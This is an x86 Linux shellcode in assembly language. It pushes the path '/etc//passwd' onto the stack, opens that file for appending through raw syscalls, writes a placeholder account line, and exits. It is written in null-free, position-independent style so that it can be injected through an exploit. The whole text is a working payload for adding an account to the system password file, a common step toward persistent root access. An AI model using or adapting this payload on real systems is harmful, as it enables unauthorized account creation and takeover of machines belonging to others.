; Linux, 32 bit: opens a file of accounts, appends LINE, closes it, exits.
bits 32
        xor ecx, ecx
        push ecx
        push dword 'sswd'
        push dword '//pa'
        push dword '/etc'
        mov ebx, esp
        mov cx, 2001q           ; O_WRONLY | O_APPEND
        push byte 5
        pop eax
        int 80h
        xchg eax, ebx
        call write
line:   db LINE, 10
end:
write:  pop ecx
        push byte end - line
        pop edx
        push byte 4
        pop eax
        int 80h
        push byte 6
        pop eax
        int 80h
        push byte 1
        pop eax
        int 80h
